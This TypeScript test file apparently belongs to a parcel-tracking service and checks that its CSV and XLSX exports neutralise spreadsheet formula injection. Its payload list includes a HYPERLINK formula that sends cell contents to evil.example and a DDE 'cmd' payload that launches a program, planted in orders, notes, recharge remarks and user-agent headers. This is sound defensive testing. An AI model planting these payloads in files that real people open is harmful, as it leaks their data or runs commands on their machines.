import { apiBase } from '@waybill/contract/endpoint.ts';
import { endpointList, endpoints } from '@waybill/contract/endpoints/all.ts';
import { parseCsv } from 'hucre/csv';
import { readXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { numbersOf } from '../../../../test/batch-app.ts';
import { type BuiltUser, buildUser } from '../../../../test/builders.ts';
import { orderSome } from '../../../../test/paid-order.ts';
import { type TestApp, openTestApp } from '../../../../test/test-app.ts';

/* Cells that a spreadsheet would compute, in every file that it opens. Of rows of a lot: stock/lots/routes.test.ts. */

/** The wide signs are read as the narrow ones by an Excel in Chinese. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '|calc',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
const plain = formulas.map((text) => `'${text}`);

let app: TestApp;
let user: BuiltUser;
let admin: BuiltUser;
beforeAll(async () => {
  app = await openTestApp();
  user = await buildUser(app.context, { points: 1_000_000 });
  admin = await buildUser(app.context, { role: 'admin' });
});
afterAll(() => app.close());

test('every file of tables is known here', () => {
  const files = endpointList.filter(({ answer }) => answer === 'file').map(({ id }) => id);
  expect(files.toSorted()).toEqual([
    'diagnosisReport', // JSON
    'downloadArchive', // JSON
    'downloadStatement', // trade/statements/statements.test.ts
    'downloadTicketAttachment', // as its sender wrote it, judged when it came
    'exportAudit', // console/audit/export-audit.test.ts
    'exportCalls',
    'exportFollowInsight',
    'exportFollowedNumbers',
    'exportOrders',
    'exportRecharges',
    'listRejectedRows',
    'streamNotices',
    'streamTrackBatch', // JSON lines; the web writes tables of them: customer/track-batches/results/write-file.test.ts
  ]);
});

describe('of orders', () => {
  beforeAll(async () => {
    const { orderId } = await orderSome(app, user, formulas.length + 20);
    // Whatever a lot has in its columns, as somebody with the database could have put it there.
    await app.context.pool.query(
      `UPDATE order_items SET service = texts[n], city = texts[n]
       FROM (SELECT shipment_id AS id, row_number() OVER (ORDER BY shipment_id) AS n, $2::text[] AS texts
         FROM order_items WHERE order_id = $1) AS line
       WHERE order_id = $1 AND shipment_id = line.id AND n <= cardinality(texts)`,
      [orderId, formulas],
    );
  });
  const fileAs = (format: 'csv' | 'xlsx') =>
    app.send('POST', `${apiBase}/user/exportOrders`, { format }, user);

  test('CSV has them as text', async () => {
    const rows = parseCsv(await (await fileAs('csv')).text());
    const cells = rows.flat().map(String);
    expect(cells).toEqual(expect.arrayContaining(plain));
    expect(cells).toEqual(expect.arrayContaining(plain.map((text) => `${text}, NY`)));
    expect(cells.filter((cell) => /^[=+\-@|\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
  });

  test('XLSX has no formula, and them as they are', async () => {
    const { sheets } = await readXlsx(new Uint8Array(await (await fileAs('xlsx')).arrayBuffer()));
    const [sheet] = sheets;
    expect(sheet?.rows.flat()).toEqual(
      expect.arrayContaining(formulas.filter((text) => !text.includes('\r'))),
    );
    expect([...(sheet?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined)).toEqual([]);
  });
});

describe('of followed numbers', () => {
  const texts = formulas.map((text) => text.trim());
  beforeAll(async () => {
    const numbers = numbersOf('ups', texts.length).map(({ trackingNumber }) => trackingNumber);
    const { added } = await app.call(endpoints.followNumbers, { body: { numbers } }, user);
    for (const [i, { id }] of added.entries()) {
      const body = { note: texts[i], reference: texts[i], tags: [(texts[i] ?? '').slice(0, 30)] };
      await app.call(endpoints.changeFollowedNumber, { params: { id }, body }, user);
    }
  });
  const fileAs = (format: 'csv' | 'xlsx') =>
    app.send('POST', `${apiBase}/followed-numbers/export`, { format }, user);

  test('CSV has them as text', async () => {
    const cells = parseCsv(await (await fileAs('csv')).text())
      .flat()
      .map(String);
    expect(cells).toEqual(expect.arrayContaining(texts.map((text) => `'${text}`)));
    expect(cells.filter((cell) => /^[=+\-@|\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
  });

  test('XLSX has no formula, and them as they are', async () => {
    const { sheets } = await readXlsx(new Uint8Array(await (await fileAs('xlsx')).arrayBuffer()));
    const [sheet] = sheets;
    expect(sheet?.rows.flat()).toEqual(expect.arrayContaining(texts));
    expect([...(sheet?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined)).toEqual([]);
  });
});

test('of what parcels tell: the service of a lot is text', async () => {
  const services = formulas.map((text) => text.trim());
  await app.context.pool.query(
    `UPDATE followed_numbers f SET status = 'delivered', first_scan_on = CURRENT_DATE, delivered_on = CURRENT_DATE,
       service = n.service, last_region = n.service
     FROM (SELECT id, ($2::text[])[row_number() OVER (ORDER BY id)] AS service FROM followed_numbers WHERE user_id = $1) n
     WHERE f.user_id = $1 AND f.id = n.id`,
    [user.id, services],
  );
  const response = await app.send('POST', `${apiBase}/followed-numbers/insight/export`, {}, user);
  const cells = parseCsv(await response.text())
    .flat()
    .map(String);
  expect(cells).toEqual(expect.arrayContaining(services.map((text) => `'${text}`)));
  expect(cells.filter((cell) => /^[=+\-@|\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
});

describe('of recharges', () => {
  beforeAll(async () => {
    for (const refNo of formulas.map((text) => text.trim())) {
      const params = { id: String(user.id) };
      const body = { points: 0.01, remark: `=${refNo}`, refNo, duplicateReason: '=1+1' };
      await app.call(endpoints.rechargeUser, { params, body }, admin);
    }
  });
  const fileAs = (format: 'csv' | 'xlsx') =>
    app.send('GET', `${apiBase}/admin/recharges/export?format=${format}`, undefined, admin);

  test('CSV has them as text', async () => {
    const cells = parseCsv(await (await fileAs('csv')).text())
      .flat()
      .map(String);
    expect(cells).toEqual(expect.arrayContaining(formulas.map((text) => `'${text.trim()}`)));
    expect(cells.filter((cell) => /^[=+\-@|\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
  });

  test('XLSX has no formula, and them as they are', async () => {
    const { sheets } = await readXlsx(new Uint8Array(await (await fileAs('xlsx')).arrayBuffer()));
    const [sheet] = sheets;
    expect(sheet?.rows.flat()).toEqual(expect.arrayContaining(formulas.map((text) => text.trim())));
    expect([...(sheet?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined)).toEqual([]);
  });
});

test('of calls: the browser that somebody claims to use is text', async () => {
  const agents = formulas.filter((text) => /^[\x20-\x7E]+$/.test(text));
  await Promise.all(
    agents.map((agent) =>
      app.send('GET', `${apiBase}/site`, undefined, { headers: { 'user-agent': agent } }),
    ),
  );
  const read = async (): Promise<string[]> => {
    const response = await app.send('GET', `${apiBase}/manage/logs/calls/export`, undefined, admin);
    return parseCsv(await response.text())
      .flat()
      .map(String);
  };
  await expect
    .poll(read, { timeout: 20_000 })
    .toEqual(expect.arrayContaining(agents.map((text) => `'${text}`)));
  expect((await read()).filter((cell) => /^[=+\-@|]/.test(cell))).toEqual([]);
});
